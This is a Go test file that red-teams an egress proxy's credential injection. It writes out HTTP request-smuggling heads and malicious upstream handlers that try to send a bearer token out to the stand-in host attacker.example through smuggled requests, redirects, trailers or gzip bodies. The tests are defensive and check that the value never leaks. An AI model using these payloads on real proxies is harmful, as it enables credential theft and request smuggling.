package egress

import (
	"bufio"
	"bytes"
	"compress/gzip"
	"crypto/rand"
	"crypto/tls"
	"encoding/json"
	"fmt"
	"io"
	"net"
	"net/http"
	"net/http/httptest"
	"net/url"
	"slices"
	"strings"
	"sync"
	"testing"

	"github.com/mcpolicy/mcpolicy/internal/allowlist"
	"github.com/mcpolicy/mcpolicy/internal/credential"
)

// The red team of credential injection (issue 41): the server holds the
// placeholder, egress to the bound host through the proxy, and wants the
// value. Each attack asserts it gets nothing: the value reaches only the
// bound host, in the bound place, and never comes back down.

// received is one request a bound upstream read: the Host it was for,
// its head as the upstream saw it, and its body.
type received struct {
	host, head, body string
}

// recorder is a bound upstream that keeps what it was sent and answers
// with do.
type recorder struct {
	mu  sync.Mutex
	got []received
}

func (rc *recorder) all() []received {
	rc.mu.Lock()
	defer rc.mu.Unlock()
	return append([]received(nil), rc.got...)
}

// rebind puts a TLS upstream serving h in place of the rig's bound one.
func rebind(t *testing.T, r *interceptRig, h func(rc *recorder, w http.ResponseWriter, req *http.Request)) (*recorder, string) {
	t.Helper()
	rc := &recorder{}
	up := httptest.NewTLSServer(http.HandlerFunc(func(w http.ResponseWriter, req *http.Request) {
		var head bytes.Buffer
		fmt.Fprintf(&head, "%s %s\n", req.Method, req.URL.RequestURI())
		req.Header.Write(&head)
		body, _ := io.ReadAll(req.Body)
		rc.mu.Lock()
		rc.got = append(rc.got, received{host: req.Host, head: head.String(), body: string(body)})
		rc.mu.Unlock()
		h(rc, w, req)
	}))
	t.Cleanup(up.Close)
	target := up.Listener.Addr().String()
	r.p.Allow, _ = allowlist.Parse([]string{target, r.other})
	r.p.UpstreamRoots.AddCert(up.Certificate())
	r.p.Credentials[0].Grant.To = []string{target}
	r.bound = target
	ln, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	go r.p.Serve(ln)
	t.Cleanup(r.p.Close)
	return rc, ln.Addr().String()
}

// echoHead answers with the request's head and body, in small flushed
// pieces: the value, if the proxy put it in, split across chunks.
func echoHead(_ *recorder, w http.ResponseWriter, req *http.Request) {
	var b bytes.Buffer
	fmt.Fprintf(&b, "%s %s %s\n", req.Method, req.URL.RequestURI(), req.Host)
	req.Header.Write(&b)
	echo := b.Bytes()
	for len(echo) > 0 {
		n := min(5, len(echo))
		w.Write(echo[:n])
		w.(http.Flusher).Flush()
		echo = echo[n:]
	}
}

// sendRaw writes raw on an intercepted connection and returns all the
// server reads back until the proxy or the upstream ends it.
func sendRaw(t *testing.T, r *interceptRig, proxy, raw string) string {
	t.Helper()
	tc := r.interceptedConn(t, proxy)
	go func() {
		io.WriteString(tc, raw)
		tc.CloseWrite() // the proxy ends the exchange once it has answered
	}()
	got, _ := io.ReadAll(io.LimitReader(tc, 1<<20))
	tc.Close()
	return string(got)
}

// TestRedteamCredentialSmuggling: request heads that parse differently
// in different readers (CL and TE both, TE variants, obs-fold, bare LF,
// duplicate Host, absolute-form URIs, Host spellings, HTTP/1.0 without
// Host, pipelining, 100-continue, an Upgrade then raw bytes, the
// placeholder elsewhere than the bound header). Whatever the proxy
// makes of each, the value reaches the bound upstream only in a request
// for the bound host, in the bound header, exactly, and never comes back
// to the server.
func TestRedteamCredentialSmuggling(t *testing.T) {
	r := newInterceptRig(t, credential.Injection{Header: "Authorization", Format: "Bearer {}"})
	rc, proxy := rebind(t, r, func(rc *recorder, w http.ResponseWriter, req *http.Request) {
		if req.Header.Get("Upgrade") != "" {
			c, buf, err := w.(http.Hijacker).Hijack()
			if err != nil {
				return
			}
			defer c.Close()
			buf.WriteString("HTTP/1.1 101 Switching Protocols\r\nUpgrade: raw\r\nConnection: Upgrade\r\n\r\n")
			buf.Flush()
			// Whatever comes after the 101 is a request to this host
			// too, as far as it knows; it echoes it.
			raw, _ := io.ReadAll(io.LimitReader(buf, 4096))
			rc.mu.Lock()
			rc.got = append(rc.got, received{host: "(raw)", body: string(raw)})
			rc.mu.Unlock()
			c.Write(raw)
			return
		}
		echoHead(rc, w, req)
	})
	host, port, _ := net.SplitHostPort(r.bound)
	b, ph := r.bound, testPlaceholder
	auth := "Authorization: Bearer " + ph + "\r\n"
	smuggled := "GET /second HTTP/1.1\r\nHost: attacker.example\r\n" + auth + "\r\n"
	for _, c := range []struct{ name, raw string }{
		{"CL and TE", "POST / HTTP/1.1\r\nHost: " + b + "\r\n" + auth + "Content-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n" + smuggled},
		{"TE and CL", "POST / HTTP/1.1\r\nHost: " + b + "\r\n" + auth + "Transfer-Encoding: chunked\r\nContent-Length: 200\r\n\r\n0\r\n\r\n" + smuggled},
		{"TE chunked, identity", "POST / HTTP/1.1\r\nHost: " + b + "\r\n" + auth + "Transfer-Encoding: chunked, identity\r\nContent-Length: 4\r\n\r\n0\r\n\r\n" + smuggled},
		{"TE xchunked", "POST / HTTP/1.1\r\nHost: " + b + "\r\n" + auth + "Transfer-Encoding: xchunked\r\nContent-Length: 4\r\n\r\n0\r\n\r\n" + smuggled},
		{"TE twice", "POST / HTTP/1.1\r\nHost: " + b + "\r\n" + auth + "Transfer-Encoding: chunked\r\nTransfer-Encoding: identity\r\n\r\n0\r\n\r\n" + smuggled},
		{"TE with space", "POST / HTTP/1.1\r\nHost: " + b + "\r\n" + auth + "Transfer-Encoding : chunked\r\nContent-Length: 4\r\n\r\n0\r\n\r\n" + smuggled},
		{"TE upper case", "POST / HTTP/1.1\r\nHost: " + b + "\r\n" + auth + "Transfer-Encoding: CHUNKED\r\n\r\n0\r\n\r\n" + smuggled},
		{"two Content-Lengths", "POST / HTTP/1.1\r\nHost: " + b + "\r\n" + auth + "Content-Length: 0\r\nContent-Length: 70\r\n\r\n" + smuggled},
		{"obs-fold Host", "GET / HTTP/1.1\r\nHost: attacker.example\r\n " + b + "\r\n" + auth + "\r\n"},
		{"obs-fold Authorization", "GET / HTTP/1.1\r\nHost: " + b + "\r\nAuthorization: Bearer\r\n " + ph + "\r\n\r\n"},
		{"bare LF", "GET / HTTP/1.1\nHost: " + b + "\nAuthorization: Bearer " + ph + "\n\n" + "GET / HTTP/1.1\nHost: attacker.example\nAuthorization: Bearer " + ph + "\n\n"},
		{"duplicate Host", "GET / HTTP/1.1\r\nHost: " + b + "\r\nHost: attacker.example\r\n" + auth + "\r\n"},
		{"duplicate Host, other first", "GET / HTTP/1.1\r\nHost: attacker.example\r\nHost: " + b + "\r\n" + auth + "\r\n"},
		{"absolute-form, other host", "GET https://attacker.example/ HTTP/1.1\r\nHost: " + b + "\r\n" + auth + "\r\n"},
		{"absolute-form, bound host, other Host", "GET https://" + b + "/ HTTP/1.1\r\nHost: attacker.example\r\n" + auth + "\r\n"},
		{"absolute-form, userinfo", "GET https://" + b + "@attacker.example/ HTTP/1.1\r\nHost: " + b + "\r\n" + auth + "\r\n"},
		{"absolute-form, http", "GET http://attacker.example/ HTTP/1.1\r\nHost: " + b + "\r\n" + auth + "\r\n"},
		{"Host upper case, trailing dot", "GET / HTTP/1.1\r\nHost: " + strings.ToUpper(host) + ".:" + port + "\r\n" + auth + "\r\n"},
		{"Host, other port", "GET / HTTP/1.1\r\nHost: " + host + ":1\r\n" + auth + "\r\n"},
		{"Host, port with a zero", "GET / HTTP/1.1\r\nHost: " + host + ":0" + port + "\r\n" + auth + "\r\n"},
		{"Host, suffix", "GET / HTTP/1.1\r\nHost: " + host + ".attacker.example:" + port + "\r\n" + auth + "\r\n"},
		{"Host, IDN", "GET / HTTP/1.1\r\nHost: xn--80ak6aa92e.com\r\n" + auth + "\r\n"},
		{"Host with a path", "GET / HTTP/1.1\r\nHost: attacker.example/" + b + "\r\n" + auth + "\r\n"},
		{"Host empty", "GET / HTTP/1.1\r\nHost: \r\n" + auth + "\r\n"},
		{"HTTP/1.0 without Host", "GET / HTTP/1.0\r\n" + auth + "\r\n"},
		{"HTTP/0.9", "GET /\r\n\r\n"},
		{"pipelined, second elsewhere", "GET /1 HTTP/1.1\r\nHost: " + b + "\r\n" + auth + "\r\n" + smuggled},
		{"100-continue", "POST / HTTP/1.1\r\nHost: " + b + "\r\n" + auth + "Expect: 100-continue\r\nContent-Length: " + fmt.Sprint(len(smuggled)) + "\r\n\r\n" + smuggled},
		{"Upgrade then raw bytes", "GET /ws HTTP/1.1\r\nHost: " + b + "\r\n" + auth + "Upgrade: raw\r\nConnection: Upgrade\r\n\r\n" + smuggled},
		{"placeholder in another header", "GET / HTTP/1.1\r\nHost: " + b + "\r\nX-Token: Bearer " + ph + "\r\nProxy-Authorization: Bearer " + ph + "\r\n\r\n"},
		{"placeholder in the body and query", "POST /?access_token=" + ph + " HTTP/1.1\r\nHost: " + b + "\r\nContent-Length: " + fmt.Sprint(len(ph)) + "\r\n\r\n" + ph},
		{"placeholder in the path", "GET /" + ph + " HTTP/1.1\r\nHost: " + b + "\r\n\r\n"},
		{"lower-case bearer", "GET / HTTP/1.1\r\nHost: " + b + "\r\nAuthorization: bearer " + ph + "\r\n\r\n"},
		{"extra spaces", "GET / HTTP/1.1\r\nHost: " + b + "\r\nAuthorization: Bearer  " + ph + "\r\n\r\n"},
		{"comma-joined", "GET / HTTP/1.1\r\nHost: " + b + "\r\nAuthorization: Bearer " + ph + ", Bearer " + ph + "\r\n\r\n"},
		{"two Authorization headers", "GET / HTTP/1.1\r\nHost: " + b + "\r\n" + auth + auth + "\r\n"},
		{"header name case", "GET / HTTP/1.1\r\nHost: " + b + "\r\nAUTHORIZATION: Bearer " + ph + "\r\n\r\n"},
		{"header name, space before colon", "GET / HTTP/1.1\r\nHost: " + b + "\r\nAuthorization : Bearer " + ph + "\r\n\r\n"},
	} {
		got := sendRaw(t, r, proxy, c.raw)
		if strings.Contains(got, testValue) {
			t.Errorf("%s: the server read the value back:\n%s", c.name, got)
		}
	}
	for _, g := range rc.all() {
		if !strings.Contains(g.head+g.body, testValue) {
			continue
		}
		h, p, err := net.SplitHostPort(g.host)
		if err != nil || !strings.EqualFold(strings.TrimSuffix(h, "."), host) || p != port {
			t.Errorf("the value reached a request for %q:\n%s", g.host, g.head)
		}
		// Only the bound header, exactly: Authorization: Bearer VALUE.
		rest := strings.ReplaceAll(g.head, "Authorization: Bearer "+testValue+"\r\n", "")
		if strings.Contains(rest+g.body, testValue) {
			t.Errorf("the value outside the bound header:\n%s%s", g.head, g.body)
		}
	}
}

// TestRedteamCredentialAnswers: the bound upstream echoes the value
// where the proxy might not look: a trailer, a second Content-Encoding
// header (the first "identity"), percent-encoded in a query echo, a
// header's name, a 1xx's header, a redirect's Location. The server never
// reads the value, and the proxy follows no redirect.
func TestRedteamCredentialAnswers(t *testing.T) {
	const odd = "sk-R3al/Value+with=odd&chars_0123456789abcdefABCDEF"
	for _, c := range []struct {
		name string
		as   credential.Injection
		h    func(rc *recorder, w http.ResponseWriter, req *http.Request)
	}{
		{"trailer", credential.Injection{Header: "Authorization", Format: "Bearer {}"}, func(_ *recorder, w http.ResponseWriter, req *http.Request) {
			w.Header().Set("Trailer", "X-Echo")
			w.Write([]byte("body"))
			w.(http.Flusher).Flush()
			w.Header().Set("X-Echo", req.Header.Get("Authorization"))
		}},
		{"undeclared trailer", credential.Injection{Header: "Authorization", Format: "Bearer {}"}, func(_ *recorder, w http.ResponseWriter, req *http.Request) {
			w.Write([]byte("body"))
			w.(http.Flusher).Flush()
			w.Header().Set(http.TrailerPrefix+"X-Echo", req.Header.Get("Authorization"))
		}},
		{"Content-Encoding twice", credential.Injection{Header: "Authorization", Format: "Bearer {}"}, func(_ *recorder, w http.ResponseWriter, req *http.Request) {
			w.Header()["Content-Encoding"] = []string{"identity", "gzip"}
			z := gzip.NewWriter(w)
			z.Write([]byte(req.Header.Get("Authorization")))
			z.Close()
		}},
		{"Content-Encoding after identity in one header", credential.Injection{Header: "Authorization", Format: "Bearer {}"}, func(_ *recorder, w http.ResponseWriter, req *http.Request) {
			w.Header().Set("Content-Encoding", "identity, gzip")
			z := gzip.NewWriter(w)
			z.Write([]byte(req.Header.Get("Authorization")))
			z.Close()
		}},
		{"query echoed percent-encoded", credential.Injection{Query: "access_token"}, func(_ *recorder, w http.ResponseWriter, req *http.Request) {
			w.Header().Set("X-Query", req.URL.RawQuery)
			w.Header().Set("Location", "https://attacker.example/?"+req.URL.RawQuery)
			w.WriteHeader(http.StatusFound)
			fmt.Fprintf(w, "bad request to %s", req.URL.RequestURI())
		}},
		{"path-escaped echo", credential.Injection{Query: "access_token"}, func(_ *recorder, w http.ResponseWriter, req *http.Request) {
			fmt.Fprintf(w, "/%s", url.PathEscape(req.URL.Query().Get("access_token")))
		}},
		{"1xx header", credential.Injection{Header: "Authorization", Format: "Bearer {}"}, func(_ *recorder, w http.ResponseWriter, req *http.Request) {
			w.Header().Set("Link", "<https://x.example/"+req.Header.Get("Authorization")+">")
			w.WriteHeader(http.StatusEarlyHints)
			w.Header().Del("Link")
		}},
		{"JSON echo", credential.Injection{Query: "access_token"}, func(_ *recorder, w http.ResponseWriter, req *http.Request) {
			json.NewEncoder(w).Encode(map[string]string{"token": req.URL.Query().Get("access_token")})
		}},
		{"header name", credential.Injection{Header: "Authorization", Format: "Bearer {}"}, func(_ *recorder, w http.ResponseWriter, req *http.Request) {
			w.Header()["X-"+strings.TrimPrefix(req.Header.Get("Authorization"), "Bearer ")] = []string{"1"}
		}},
		{"redirect to the attacker", credential.Injection{Header: "Authorization", Format: "Bearer {}"}, func(_ *recorder, w http.ResponseWriter, req *http.Request) {
			http.Redirect(w, req, "https://attacker.example/?t="+strings.TrimPrefix(req.Header.Get("Authorization"), "Bearer "), http.StatusTemporaryRedirect)
		}},
	} {
		t.Run(c.name, func(t *testing.T) {
			r := newInterceptRig(t, c.as)
			value := testValue
			if c.as.Query != "" {
				value = odd
				ph, err := credential.Placeholder(odd, strings.NewReader(strings.Repeat("\x5a\xa5\x3c\xc3", 256)))
				if err != nil {
					t.Fatal(err)
				}
				r.p.Credentials[0].Value, r.p.Credentials[0].Placeholder = odd, ph
			}
			ph := r.p.Credentials[0].Placeholder
			rc, proxy := rebind(t, r, c.h)
			head := "GET / HTTP/1.1\r\nHost: " + r.bound + "\r\nAuthorization: Bearer " + ph + "\r\nConnection: close\r\n\r\n"
			if c.as.Query != "" {
				head = "GET /?access_token=" + url.QueryEscape(ph) + " HTTP/1.1\r\nHost: " + r.bound + "\r\nConnection: close\r\n\r\n"
			}
			got := sendRaw(t, r, proxy, head)
			if n := len(rc.all()); n != 1 {
				t.Fatalf("the upstream got %d requests, want 1 (the proxy follows no redirect)", n)
			}
			if !strings.Contains(rc.all()[0].head, url.QueryEscape(value)) && !strings.Contains(rc.all()[0].head, value) {
				t.Fatalf("the upstream never got the value (the attack proves nothing):\n%s", rc.all()[0].head)
			}
			for _, form := range leakForms(value) {
				if strings.Contains(got, form) {
					t.Errorf("the server read the value (as %q):\n%s", form, got)
				}
			}
			if c.name == "header name" {
				// Canonicalised, the value's case is lost; its letters still go.
				if strings.Contains(strings.ToLower(got), strings.ToLower(value[4:])) {
					t.Errorf("the server read the value, case folded:\n%s", got)
				}
			}
			// A gzip'd answer the proxy let through: what it carries.
			if i := strings.Index(got, "\r\n\r\n"); i > 0 {
				if resp, err := http.ReadResponse(bufio.NewReader(strings.NewReader(got)), nil); err == nil {
					if z, err := gzip.NewReader(resp.Body); err == nil {
						plain, _ := io.ReadAll(z)
						if strings.Contains(string(plain), value) {
							t.Errorf("the server read the value, compressed")
						}
					}
				}
			}
		})
	}
}

// leakForms are the spellings of v an echo may use.
func leakForms(v string) []string {
	j, _ := json.Marshal(v)
	return []string{v, url.QueryEscape(v), url.PathEscape(v), string(j[1 : len(j)-1])}
}

// TestRedteamCredentialConnect: a TLS SNI other than the CONNECT's
// target, and the bound upstream reached by a second allowed name on the
// same address. The first is still the bound host's interception (the
// leaf is the bound host's, whatever the SNI; a request naming another
// Host gets no value); the second is a plain tunnel, and the placeholder
// goes through it as a string.
func TestRedteamCredentialConnect(t *testing.T) {
	r := newInterceptRig(t, credential.Injection{Header: "Authorization", Format: "Bearer {}"})
	rc, proxy := rebind(t, r, echoHead)

	c, err := connect(proxy, r.bound)
	if err != nil {
		t.Fatal(err)
	}
	tc := tls.Client(c, &tls.Config{ServerName: "attacker.example", InsecureSkipVerify: true})
	if err := tc.Handshake(); err != nil {
		t.Fatal(err)
	}
	if cn := tc.ConnectionState().PeerCertificates[0].DNSNames; slices.Contains(cn, "attacker.example") {
		t.Errorf("the proxy signed a leaf for the SNI it was sent: %v", cn)
	}
	fmt.Fprintf(tc, "GET / HTTP/1.1\r\nHost: attacker.example\r\nAuthorization: Bearer %s\r\n\r\n", testPlaceholder)
	tc.CloseWrite()
	got, _ := io.ReadAll(tc)
	tc.Close()
	if strings.Contains(string(got), testValue) {
		t.Errorf("SNI: the server read the value:\n%s", got)
	}

	// A second name for the bound host's address, or the address itself,
	// is another destination: bound to nothing, so a tunnel, where the
	// placeholder is a string.
	p := &Proxy{Credentials: []Credential{{Grant: credential.Grant{Name: "T", To: []string{"api.github.com:443"}}}}}
	for _, d := range []string{"140.82.112.6", "github.com", "api.github.com.evil.example", "api.github.com", "API.GITHUB.COM"} {
		for _, port := range []int{443, 80} {
			want := strings.EqualFold(d, "api.github.com") && port == 443
			if got := len(p.bound(d, port)) > 0; got != want {
				t.Errorf("bound(%s, %d) = %v, want %v", d, port, got, want)
			}
		}
	}
	all := rc.all()
	if len(all) != 1 {
		t.Fatalf("the upstream got %d requests, want 1", len(all))
	}
	for _, g := range all {
		if strings.Contains(g.head, testValue) || !strings.Contains(g.head, testPlaceholder) {
			t.Errorf("the upstream got, for %q:\n%s", g.host, g.head)
		}
	}
}

// TestRedteamCredentialValueInValue: two credentials bound to one host,
// one value inside the other (a token and the same token with a prefix,
// from one source). The upstream echoes both; redacting the shorter
// first rewrote the inside of the longer, which then came back as its
// own characters around the other's placeholder: the server read the
// longer value but for the part it holds a placeholder of.
func TestRedteamCredentialValueInValue(t *testing.T) {
	for name, h := range map[string]func(rc *recorder, w http.ResponseWriter, req *http.Request){
		"body": echoHead,
		"header": func(_ *recorder, w http.ResponseWriter, req *http.Request) {
			w.Header().Set("X-Echo", req.Header.Get("X-Org-Token"))
			fmt.Fprint(w, "ok")
		},
	} {
		t.Run(name, func(t *testing.T) {
			r := newInterceptRig(t, credential.Injection{Header: "Authorization", Format: "Bearer {}"})
			rc, proxy := rebind(t, r, h)
			long := "Org-" + testValue + "-Tail9Q"
			ph, err := credential.Placeholder(long, rand.Reader)
			if err != nil {
				t.Fatal(err)
			}
			r.p.Credentials = append(r.p.Credentials, Credential{
				Grant: credential.Grant{Name: "ORG_TOKEN", To: []string{r.bound}, As: credential.Injection{Header: "X-Org-Token", Format: "{}"}},
				Value: long, Placeholder: ph})
			// Not sendRaw: its half-close can reach the proxy before the
			// streamed answer ends, which then ends it there (the request's
			// context is done); Connection: close ends the exchange.
			tc := r.interceptedConn(t, proxy)
			io.WriteString(tc, "GET / HTTP/1.1\r\nHost: "+r.bound+"\r\nAuthorization: Bearer "+testPlaceholder+
				"\r\nX-Org-Token: "+ph+"\r\nConnection: close\r\n\r\n")
			raw, _ := io.ReadAll(io.LimitReader(tc, 1<<20))
			tc.Close()
			got := string(raw)
			if all := rc.all(); len(all) != 1 || !strings.Contains(all[0].head, long) || !strings.Contains(all[0].head, "Bearer "+testValue) {
				t.Fatalf("the upstream did not get both values (the attack proves nothing):\n%v", all)
			}
			resp, err := http.ReadResponse(bufio.NewReader(strings.NewReader(got)), nil)
			if err != nil {
				t.Fatalf("%v:\n%s", err, got)
			}
			body, _ := io.ReadAll(resp.Body) // unchunked
			read := string(body) + "\n" + resp.Header.Get("X-Echo")
			if strings.Contains(read, "Org-"+testPlaceholder+"-Tail9Q") {
				t.Errorf("the server read the longer value around the shorter's placeholder:\n%s", read)
			}
			if !strings.Contains(read, ph) {
				t.Errorf("the echo does not hold the longer value's placeholder:\n%s", read)
			}
		})
	}
}
